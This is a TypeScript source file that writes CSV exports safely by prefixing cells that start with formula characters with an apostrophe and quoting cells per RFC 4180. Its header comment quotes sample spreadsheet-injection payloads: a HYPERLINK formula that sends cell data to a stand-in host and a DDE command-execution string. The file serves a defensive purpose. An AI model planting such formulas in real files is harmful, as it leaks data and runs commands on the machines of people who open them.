/**
 * CSV for spreadsheets, written by the server (GET /api/v1/responses/export). A cell that starts
 * with = + - @, a tab or a carriage return is run as a formula by Excel, LibreOffice and Google
 * Sheets (`=HYPERLINK("https://evil.example?"&A1, "Click")`, `@SUM(…)`, `-2+3+cmd|' /C calc'!A0`),
 * and answers and comments are anyone's input: such a text cell gets a leading apostrophe
 * (OWASP's advice), which spreadsheets show as text. Numbers are written as numbers (a negative
 * score stays numeric). Cells with a comma, quote or line break are quoted (RFC 4180), lines end
 * with CRLF. The same rule as the browser's src/web/app/csv.ts.
 */

export type CsvValue = string | number | boolean | null | undefined | Date;

const FORMULA_START = /^[=+\-@\t\r]/;

export function csvCell(value: CsvValue): string {
  if (value === null || value === undefined) return '';
  if (typeof value === 'number') return Number.isFinite(value) ? String(value) : '';
  if (typeof value === 'boolean') return value ? 'true' : 'false';
  const text = value instanceof Date ? value.toISOString() : value;
  const safe = FORMULA_START.test(text) ? `'${text}` : text;
  return /[",\n\r]/.test(safe) ? `"${safe.replace(/"/g, '""')}"` : safe;
}

export const csvLine = (cells: readonly CsvValue[]): string => `${cells.map(csvCell).join(',')}\r\n`;
